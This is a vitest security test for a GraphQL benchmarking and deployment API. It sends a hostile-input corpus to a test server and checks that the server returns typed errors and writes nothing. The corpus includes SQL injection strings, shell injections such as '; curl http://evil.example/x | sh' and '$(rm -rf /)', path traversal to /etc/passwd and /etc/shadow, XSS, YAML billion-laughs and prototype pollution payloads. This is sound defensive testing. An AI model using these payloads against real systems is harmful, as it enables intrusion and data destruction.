import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiToken } from '../../server/domains/auth/tokens.js';
import { gql, startTestServer, type GraphQLResponse, type TestServer } from '../helpers/server.js';

/**
 * The hostile-input corpus (SPEC §7): every case is sent to a real server over HTTP and must be answered
 * with a typed error (a GraphQL error code, or a payload's typed `errors`) or, for reads, be inert
 * (answered normally, matching nothing). No case may reach INTERNAL_SERVER_ERROR, leak a stack, a
 * path or a driver message, or write anything: every table's row count is compared before and after.
 */

let server: TestServer;
const tokens = { viewer: '', operator: '', admin: '' };
type Role = keyof typeof tokens | 'anonymous';

beforeAll(async () => {
  server = await startTestServer({
    authMode: 'tokens',
    // A real job queue: a recipe that slipped through would be queued and change the row counts.
    jobs: true,
    limits: { mutationsPerMinute: 100_000, maxBodyBytes: 2 * 1024 * 1024 },
  });
  tokens.viewer = (await createApiToken(server.clients.api, 'viewer', 'VIEWER')).token;
  tokens.operator = (await createApiToken(server.clients.api, 'operator', 'OPERATOR')).token;
  tokens.admin = (await createApiToken(server.clients.api, 'admin', 'ADMIN')).token;
});

afterAll(async () => {
  await server?.close();
});

/** Codes a hostile request may legitimately end with. INTERNAL_SERVER_ERROR is not one of them. */
const TYPED_CODES = new Set([
  'BAD_USER_INPUT',
  'NOT_FOUND',
  'CONFLICT',
  'FORBIDDEN',
  'UNAUTHENTICATED',
  'QUERY_TOO_COMPLEX',
  'GRAPHQL_VALIDATION_FAILED',
  'GRAPHQL_PARSE_FAILED',
  'UPSTREAM_ERROR',
]);
const LEAK = /\bat \S+ \(|\.ts:\d+|node_modules|prisma|PrismaClient|ECONNREFUSED|\/work\/|\/root\//i;

/** Strings that try to escape SQL, YAML, Kubernetes labels, shells, JSON and terminals. */
const INJECTIONS = [
  `' OR '1'='1`,
  `'; DROP TABLE benchmarks; --`,
  `"); DELETE FROM models; --`,
  `1; SELECT pg_sleep(5)`,
  `\\'; TRUNCATE api_tokens CASCADE; --`,
  `x\n---\napiVersion: v1\nkind: Secret`,
  `name: x\nnamespace: kube-system`,
  `a: b`,
  `{{ 7*7 }}{% raw %}`,
  `$(rm -rf /)`,
  '`reboot`',
  `; curl http://evil.example/x | sh`,
  `../../../../etc/passwd`,
  `\u0000nul`,
  `\u202Eevil\u202C`,
  `ℌ𝔢𝔩𝔩𝔬 🚀 模型`,
  `app.kubernetes.io/name=x,compass.io/deployment-id!=`,
  `=cmd|' /C calc'!A0`,
  `<script>alert(1)</script>`,
  `\u001b[31mred`,
  'x'.repeat(10_000),
];

interface HostileCase {
  name: string;
  role: Role;
  query: string;
  variables?: Record<string, unknown>;
  /** A read may answer normally as long as it matches nothing; a write never may. */
  inert?: (data: unknown) => boolean;
  /** Where a payload carries typed errors instead of GraphQL errors. */
  payloadErrors?: (data: unknown) => unknown[] | undefined;
}

const importPayloadErrors = (data: unknown) =>
  (data as { importBenchmarks?: { errors: unknown[] } } | undefined)?.importBenchmarks?.errors;
const deployPayloadErrors = (data: unknown) => {
  const payload = (data as { createDeployment?: { errors: unknown[]; deployment: unknown } } | undefined)
    ?.createDeployment;
  return payload && payload.deployment === null ? payload.errors : undefined;
};

const IMPORT = `mutation($format: ImportFormat!, $content: String!) {
  importBenchmarks(input: { format: $format, content: $content }) { inserted updated errors { row field code message } }
}`;
const DEPLOY = `mutation($input: CreateDeploymentInput!) {
  createDeployment(input: $input) { dryRun manifests deployment { id } errors { code field message } }
}`;
const START_RUN = `mutation($input: StartBenchmarkRunInput!) { startBenchmarkRun(input: $input) { run { id } } }`;
const RECOMMEND = `query($spec: DeploymentSpecInput!) { recommend(spec: $spec) { recommendations { rank } } }`;

const goodCsv = readFileSync('test/fixtures/import/summaries-good.csv', 'utf8');
const csvHeader = goodCsv.split('\n')[0]!;
const csvRow = goodCsv.split('\n')[1]!;

const validRecipe = {
  name: 'hostile',
  target: { baseUrl: 'http://127.0.0.1:9/v1', model: 'm' },
  data: { kind: 'synthetic', promptTokens: 16, outputTokens: 4, seed: 1 },
  load: { profile: 'synchronous' },
  limits: { maxRequests: 1 },
};

function bombs(): HostileCase[] {
  const deep = `{ useCases { trafficProfile { useCases { trafficProfile { useCases { trafficProfile { useCases { trafficProfile { useCases { trafficProfile { useCases { trafficProfile { name } } } } } } } } } } } } }`;
  const fragmentCycle = `query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }`;
  const fieldWide = `{ benchmarks(first: 100) { edges { node { model { benchmarks(first: 100) { edges { node { gpu { benchmarks(first: 100) { edges { node { id } } } } } } } } } } } }`;
  return [
    { name: 'depth bomb', role: 'viewer', query: deep },
    {
      name: 'alias bomb',
      role: 'viewer',
      query: `{ ${Array.from({ length: 200 }, (_, i) => `a${i}: gpus { type }`).join(' ')} }`,
    },
    {
      name: 'directive bomb',
      role: 'viewer',
      query: `{ gpus { type ${Array.from({ length: 100 }, () => '@include(if: true)').join(' ')} } }`,
    },
    {
      name: 'token bomb',
      role: 'viewer',
      query: `{ gpus { ${Array.from({ length: 5_000 }, () => 'type').join(' ')} } }`,
    },
    { name: 'cost bomb (nested pages)', role: 'viewer', query: fieldWide },
    { name: 'fragment cycle', role: 'viewer', query: fragmentCycle },
    {
      name: 'page size over the maximum',
      role: 'viewer',
      query: `{ benchmarks(first: 100000) { totalCount } }`,
    },
    { name: 'negative page size', role: 'viewer', query: `{ models(first: -5) { totalCount } }` },
    { name: 'unparsable document', role: 'viewer', query: `{ gpus { type ` },
    { name: 'unknown field (no suggestions leak)', role: 'viewer', query: `{ gpuz { type } }` },
    {
      name: 'introspection of a mutation as viewer',
      role: 'viewer',
      query: `mutation { revokeApiToken(id: "1") }`,
    },
  ];
}

function injectionsIntoReads(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const [i, text] of INJECTIONS.entries()) {
    cases.push(
      {
        name: `benchmarks filter strings #${i}`,
        role: 'viewer',
        query: `query($f: BenchmarkFilter) { benchmarks(first: 5, filter: $f) { totalCount } }`,
        variables: { f: { modelHfRepo: text, gpuType: text } },
        inert: (data) => (data as { benchmarks: { totalCount: number } }).benchmarks.totalCount === 0,
      },
      {
        name: `models search #${i}`,
        role: 'viewer',
        query: `query($f: ModelFilter) { models(first: 5, filter: $f) { totalCount } }`,
        variables: { f: { search: text, family: text, domain: text, task: text } },
        inert: (data) => (data as { models: { totalCount: number } }).models.totalCount === 0,
      },
      {
        name: `recommend spec strings #${i}`,
        role: 'viewer',
        query: RECOMMEND,
        variables: { spec: { useCaseKey: text, requestsPerSecond: 5 } },
      },
      {
        name: `recommend gpu allow-list #${i}`,
        role: 'viewer',
        query: RECOMMEND,
        variables: { spec: { useCaseKey: 'chatbot_conversational', requestsPerSecond: 5, gpuTypes: [text] } },
      },
      {
        name: `recommend gpu deny-list #${i}`,
        role: 'viewer',
        query: RECOMMEND,
        variables: {
          spec: { useCaseKey: 'chatbot_conversational', requestsPerSecond: 5, excludedGpuTypes: [text] },
        },
      },
      {
        name: `node id #${i}`,
        role: 'viewer',
        query: `query($id: ID!) { node(id: $id) { id } }`,
        variables: { id: text },
        inert: (data) => (data as { node: unknown }).node === null,
      },
      {
        name: `useCase key #${i}`,
        role: 'viewer',
        query: `query($key: String!) { useCase(key: $key) { key } }`,
        variables: { key: text },
        inert: (data) => (data as { useCase: unknown }).useCase === null,
      },
    );
  }
  return cases;
}

function injectionsIntoWrites(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const [i, text] of INJECTIONS.entries()) {
    cases.push(
      {
        name: `deployment name #${i}`,
        role: 'operator',
        query: DEPLOY,
        variables: {
          input: {
            name: text,
            config: { modelHfRepo: 'meta-llama/llama-3.1-8b-instruct', gpuType: 'H100', gpuCount: 1 },
          },
        },
        payloadErrors: deployPayloadErrors,
      },
      {
        name: `deployment namespace #${i}`,
        role: 'operator',
        query: DEPLOY,
        variables: {
          input: {
            name: 'ok-name',
            namespace: text,
            config: { modelHfRepo: 'meta-llama/llama-3.1-8b-instruct', gpuType: 'H100', gpuCount: 1 },
          },
        },
        payloadErrors: deployPayloadErrors,
      },
      {
        name: `deployment model #${i}`,
        role: 'operator',
        query: DEPLOY,
        variables: {
          input: { name: 'ok-name', config: { modelHfRepo: text, gpuType: 'H100', gpuCount: 1 } },
        },
        payloadErrors: deployPayloadErrors,
      },
      {
        name: `recipe target model and URL #${i}`,
        role: 'operator',
        query: START_RUN,
        variables: {
          input: { recipe: { ...validRecipe, target: { baseUrl: `http://${text}`, model: text } } },
        },
      },
      {
        name: `recipe measures #${i}`,
        role: 'operator',
        query: START_RUN,
        variables: {
          input: { recipe: { ...validRecipe, measures: { model: text, gpu: text, gpuCount: 1 } } },
        },
      },
      {
        name: `import model column #${i}`,
        role: 'admin',
        query: IMPORT,
        variables: {
          format: 'SUMMARIES_JSON',
          content: JSON.stringify([{ model_hf_repo: text, hardware: text, hardware_count: 1 }]),
        },
        payloadErrors: importPayloadErrors,
      },
      {
        name: `run id #${i}`,
        role: 'operator',
        query: `mutation($id: ID!) { cancelBenchmarkRun(id: $id) { run { id } } }`,
        variables: { id: text },
      },
      {
        name: `deployment id #${i}`,
        role: 'operator',
        query: `mutation($id: ID!) { deleteDeployment(id: $id) { deployment { id } } }`,
        variables: { id: text },
      },
    );
  }
  return cases;
}

function numbersAndShapes(): HostileCase[] {
  const config = (gpuCount: number) => ({
    name: 'numbers',
    config: { modelHfRepo: 'meta-llama/llama-3.1-8b-instruct', gpuType: 'H100', gpuCount },
  });
  return [
    ...[-1, 0, 3, 1_000_000].map((gpuCount) => ({
      name: `deployment gpuCount ${gpuCount}`,
      role: 'operator' as const,
      query: DEPLOY,
      variables: { input: config(gpuCount) },
      payloadErrors: deployPayloadErrors,
    })),
    {
      name: 'deployment negative replicas',
      role: 'operator',
      query: DEPLOY,
      variables: {
        input: { ...config(1), config: { ...config(1).config, minReplicas: -2, maxReplicas: -1 } },
      },
      payloadErrors: deployPayloadErrors,
    },
    {
      name: 'deployment with both recommendation and config',
      role: 'operator',
      query: DEPLOY,
      variables: {
        input: { ...config(1), recommendation: { modelId: '1', gpuId: '1', gpuCount: 1, replicas: 1 } },
      },
      payloadErrors: deployPayloadErrors,
    },
    {
      name: 'recommend with negative load and NaN-like numbers',
      role: 'viewer',
      query: RECOMMEND,
      variables: { spec: { requestsPerSecond: -5, headroomPercent: -300, limit: 10_000 } },
    },
    {
      name: 'recommend with a huge user count',
      role: 'viewer',
      query: RECOMMEND,
      variables: { spec: { users: 2_147_483_647, requestsPerUserPerMinute: 1e308 } },
    },
    {
      name: 'recommend whose users × requests per user overflows to Infinity',
      role: 'viewer',
      query: RECOMMEND,
      variables: {
        spec: { useCaseKey: 'chatbot_conversational', users: 2_147_483_647, requestsPerUserPerMinute: 1e308 },
      },
    },
    {
      name: 'recommend with int32-max tokens and huge floats',
      role: 'viewer',
      query: RECOMMEND,
      variables: {
        spec: {
          useCaseKey: 'chatbot_conversational',
          users: 100,
          promptTokens: 2_147_483_647,
          outputTokens: 2_147_483_647,
          maxMonthlyCostUsd: 1e308,
          headroomPercent: 1e308,
          minQualityScore: -1e308,
        },
      },
    },
    {
      name: 'modelSizing with int32-max lengths',
      role: 'viewer',
      query: `query($input: ModelConfigInput!) { modelSizing(input: $input) { __typename } }`,
      variables: {
        input: {
          configJson: '{"architectures":["LlamaForCausalLM"],"hidden_size":4096}',
          contextLength: 2_147_483_647,
          promptTokens: -1,
          outputTokens: 2_147_483_647,
        },
      },
    },
    {
      name: 'recommend with a non-numeric float',
      role: 'viewer',
      query: RECOMMEND,
      variables: { spec: { requestsPerSecond: 'Infinity' } },
    },
    {
      name: 'int overflow',
      role: 'viewer',
      query: `{ benchmarks(first: 99999999999) { totalCount } }`,
    },
    {
      name: 'heartbeat subscription over HTTP with a tiny interval',
      role: 'viewer',
      query: `query { time: health { ok } }`,
      inert: () => true,
    },
  ];
}

function malformedImports(): HostileCase[] {
  const deepJson = `${'['.repeat(5_000)}${']'.repeat(5_000)}`;
  const contents: { format: string; content: string; label: string }[] = [
    { format: 'SUMMARIES_JSON', content: 'not json at all', label: 'not JSON' },
    { format: 'SUMMARIES_JSON', content: deepJson, label: 'nesting bomb' },
    { format: 'SUMMARIES_JSON', content: '{"benchmarks": "rows"}', label: 'benchmarks not a list' },
    { format: 'SUMMARIES_JSON', content: '[]', label: 'empty list' },
    { format: 'SUMMARIES_JSON', content: '[1, "two", null]', label: 'rows not objects' },
    {
      format: 'SUMMARIES_JSON',
      content: '[{"__proto__": {"polluted": true}, "constructor": {"prototype": {"x": 1}}}]',
      label: 'prototype pollution keys',
    },
    { format: 'SUMMARIES_CSV', content: '', label: 'empty CSV' },
    { format: 'SUMMARIES_CSV', content: csvHeader, label: 'header only' },
    {
      format: 'SUMMARIES_CSV',
      content: `${csvHeader}\n${csvRow.replace(/,[^,]*$/, ',')}\n"unterminated`,
      label: 'unterminated quote',
    },
    {
      format: 'SUMMARIES_CSV',
      content: `${csvHeader}\n${csvRow.replace(/\d+(\.\d+)?/g, '-1')}`,
      label: 'negative numbers',
    },
    {
      format: 'SUMMARIES_CSV',
      content: `${csvHeader}\n${csvRow.replace(/\d+(\.\d+)?/g, 'NaN')}`,
      label: 'NaN numbers',
    },
    {
      format: 'SUMMARIES_CSV',
      content: `${csvHeader}\n${csvRow.replace(/\d+(\.\d+)?/g, '1e999')}`,
      label: 'infinite numbers',
    },
    {
      format: 'SUMMARIES_CSV',
      content: `${csvHeader}\n${csvRow}\n${csvRow}\n=1+1,@SUM(A1)`,
      label: 'formula row',
    },
    { format: 'GUIDELLM_JSON', content: '{"report": 5}', label: 'GuideLLM report of the wrong shape' },
    {
      format: 'GUIDELLM_JSON',
      content: '{"benchmarks": [{"metrics": null}]}',
      label: 'GuideLLM without metrics',
    },
  ];
  const cases: HostileCase[] = contents.map(({ format, content, label }) => ({
    name: `import: ${label}`,
    role: 'admin' as const,
    query: IMPORT,
    variables: { format, content },
    payloadErrors: importPayloadErrors,
  }));
  cases.push({
    name: 'import: unknown format',
    role: 'admin',
    query: IMPORT,
    variables: { format: 'XLSX', content: goodCsv },
  });
  return cases;
}

function malformedRecipes(): HostileCase[] {
  const laughs = [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
    'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
    'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
    'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
    'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
    'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
    'name: laughs',
  ].join('\n');
  const yamls: [string, string][] = [
    ['billion laughs', laughs],
    ['invalid YAML', 'name: [unclosed\nload: {'],
    ['duplicate keys', 'name: a\nname: b'],
    ['a scalar', '42'],
    ['custom tag', 'name: !!js/function "function(){ return process.exit(1) }"'],
    ['empty', ''],
  ];
  const objects: [string, unknown][] = [
    ['file URL target', { ...validRecipe, target: { baseUrl: 'file:///etc/passwd', model: 'm' } }],
    ['javascript URL target', { ...validRecipe, target: { baseUrl: 'javascript:alert(1)', model: 'm' } }],
    ['negative rate', { ...validRecipe, load: { profile: 'constant', rate: -5 } }],
    ['zero concurrency', { ...validRecipe, load: { profile: 'concurrent', concurrency: 0 } }],
    ['unknown profile', { ...validRecipe, load: { profile: 'flood' } }],
    ['no limits', { ...validRecipe, limits: {} }],
    ['unknown key', { ...validRecipe, shell: 'rm -rf /' }],
    ['dataset outside the project', { ...validRecipe, data: { kind: 'dataset', path: '/etc/passwd' } }],
    [
      'dataset path escaping upwards',
      { ...validRecipe, data: { kind: 'dataset', path: '../../etc/shadow' } },
    ],
    ['a list', [validRecipe]],
    ['a string', 'recipe'],
    ['prototype pollution', JSON.parse('{"__proto__": {"admin": true}, "name": "x"}') as unknown],
  ];
  return [
    ...yamls.map(([label, recipeYaml]) => ({
      name: `recipe YAML: ${label}`,
      role: 'operator' as const,
      query: START_RUN,
      variables: { input: { recipeYaml } },
    })),
    ...objects.map(([label, recipe]) => ({
      name: `recipe: ${label}`,
      role: 'operator' as const,
      query: START_RUN,
      variables: { input: { recipe } },
    })),
    { name: 'recipe: neither YAML nor object', role: 'operator', query: START_RUN, variables: { input: {} } },
  ];
}

function wrongRoles(): HostileCase[] {
  const calls: { query: string; variables?: Record<string, unknown>; needs: Role }[] = [
    { query: IMPORT, variables: { format: 'SUMMARIES_CSV', content: goodCsv }, needs: 'admin' },
    { query: `mutation { createApiToken(name: "x", role: ADMIN) { token } }`, needs: 'admin' },
    { query: `mutation { revokeApiToken(id: "1") }`, needs: 'admin' },
    { query: `mutation { resetSlowQueries }`, needs: 'admin' },
    { query: `{ slowQueries { available } }`, needs: 'admin' },
    { query: `{ databaseActivity { application } }`, needs: 'admin' },
    { query: `{ apiTokens { id } }`, needs: 'admin' },
    { query: DEPLOY, variables: { input: { name: 'x', dryRun: true } }, needs: 'operator' },
    { query: `mutation { deleteDeployment(id: "1") { deployment { id } } }`, needs: 'operator' },
    { query: START_RUN, variables: { input: { recipe: validRecipe } }, needs: 'operator' },
    { query: `mutation { cancelBenchmarkRun(id: "1") { run { id } } }`, needs: 'operator' },
    { query: `mutation { resumeBenchmarkRun(id: "1") { run { id } } }`, needs: 'operator' },
    { query: `mutation { ingestBenchmarkRun(runId: "1") { inserted } }`, needs: 'operator' },
    {
      query: `mutation { testInference(deploymentId: "1", prompt: "hi") { text } }`,
      needs: 'operator',
    },
    { query: `{ gpus { type } }`, needs: 'viewer' },
    { query: `mutation { extractIntent(text: "a chatbot") { useCaseKey } }`, needs: 'viewer' },
  ];
  const rank: Record<Role, number> = { anonymous: 0, viewer: 1, operator: 2, admin: 3 };
  const cases: HostileCase[] = [];
  for (const call of calls) {
    for (const role of ['anonymous', 'viewer', 'operator'] as Role[]) {
      if (rank[role] >= rank[call.needs]) continue;
      cases.push({
        name: `${role} calls ${call.query.replace(/\s+/g, ' ').slice(0, 60)}`,
        role,
        query: call.query,
        variables: call.variables,
      });
    }
  }
  return cases;
}

const CORPUS: HostileCase[] = [
  ...bombs(),
  ...injectionsIntoReads(),
  ...injectionsIntoWrites(),
  ...numbersAndShapes(),
  ...malformedImports(),
  ...malformedRecipes(),
  ...wrongRoles(),
];

async function rowCounts(): Promise<Record<string, number>> {
  const tables = await server.clients.api.$queryRawUnsafe<{ table_name: string }[]>(
    `SELECT table_name FROM information_schema.tables
      WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name`,
  );
  const counts: Record<string, number> = {};
  for (const { table_name: table } of tables) {
    const [row] = await server.clients.api.$queryRawUnsafe<{ n: bigint }[]>(
      `SELECT count(*) AS n FROM "${table}"`,
    );
    counts[table] = Number(row?.n ?? -1);
  }
  const [jobs] = await server.clients.api.$queryRawUnsafe<{ n: bigint }[]>(
    `SELECT count(*) AS n FROM information_schema.tables WHERE table_schema = 'pgboss'`,
  );
  counts['pgboss tables'] = Number(jobs?.n ?? 0);
  return counts;
}

type Outcome = 'graphql error' | 'payload errors' | 'inert';

function judge(c: HostileCase, status: number, body: GraphQLResponse<unknown>): Outcome {
  const text = JSON.stringify(body);
  expect(text, 'no leak').not.toMatch(LEAK);
  const codes = (body.errors ?? []).map((e) => e.extensions?.code);
  if (codes.length > 0) {
    for (const code of codes)
      expect(TYPED_CODES.has(String(code)), `code ${String(code)}: ${text.slice(0, 400)}`).toBe(true);
    return 'graphql error';
  }
  expect(status, text.slice(0, 300)).toBe(200);
  const payload = c.payloadErrors?.(body.data);
  if (payload && payload.length > 0) {
    for (const error of payload as { code?: unknown }[]) expect(error.code).toEqual(expect.any(String));
    return 'payload errors';
  }
  expect(c.inert, `answered without an error: ${text.slice(0, 300)}`).toBeDefined();
  expect(c.inert!(body.data), `not inert: ${text.slice(0, 300)}`).toBe(true);
  return 'inert';
}

describe('hostile-input corpus', () => {
  it(
    `answers ${CORPUS.length} hostile requests with typed errors and writes nothing`,
    { timeout: 240_000 },
    async () => {
      const before = await rowCounts();
      const outcomes: Record<Outcome, number> = { 'graphql error': 0, 'payload errors': 0, inert: 0 };
      for (const c of CORPUS) {
        const headers: Record<string, string> = { 'content-type': 'application/json' };
        if (c.role !== 'anonymous') headers.authorization = `Bearer ${tokens[c.role]}`;
        const response = await fetch(server.graphqlUrl, {
          method: 'POST',
          headers,
          body: JSON.stringify({ query: c.query, variables: c.variables ?? {} }),
        });
        const body = (await response.json()) as GraphQLResponse<unknown>;
        try {
          outcomes[judge(c, response.status, body)] += 1;
        } catch (error) {
          throw new Error(`case "${c.name}": ${(error as Error).message}`, { cause: error });
        }
      }
      expect(await rowCounts()).toEqual(before);
      console.log(
        `hostile corpus: ${CORPUS.length} cases → ${JSON.stringify(outcomes)}; row counts unchanged`,
      );
      // The schema and data are intact after all of it.
      const gpus = await gql<{ gpus: unknown[] }>(
        server,
        '{ gpus { type } }',
        {},
        { authorization: `Bearer ${tokens.viewer}` },
      );
      expect(gpus.data?.gpus.length).toBeGreaterThanOrEqual(8);
    },
  );

  it('rejects bodies over the size limit, broken JSON and non-POST writes without writing', async () => {
    const before = await rowCounts();
    const auth = { authorization: `Bearer ${tokens.admin}` };
    const oversized = await fetch(server.graphqlUrl, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...auth },
      body: JSON.stringify({
        query: IMPORT,
        variables: { format: 'SUMMARIES_CSV', content: `${csvHeader}\n${`${csvRow}\n`.repeat(40_000)}` },
      }),
    });
    expect(oversized.status).toBe(413);
    const broken = await fetch(server.graphqlUrl, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...auth },
      body: '{"query": "{ gpus { type } }", ',
    });
    expect(broken.status).toBe(400);
    expect(await broken.text()).not.toMatch(LEAK);
    const viaGet = await fetch(
      `${server.graphqlUrl}?query=${encodeURIComponent('mutation { createApiToken(name: "x", role: ADMIN) { token } }')}`,
      { headers: { ...auth, 'x-graphql-yoga-csrf': '1' } },
    );
    expect(viaGet.status).toBeGreaterThanOrEqual(400);
    expect(await rowCounts()).toEqual(before);
  });
});
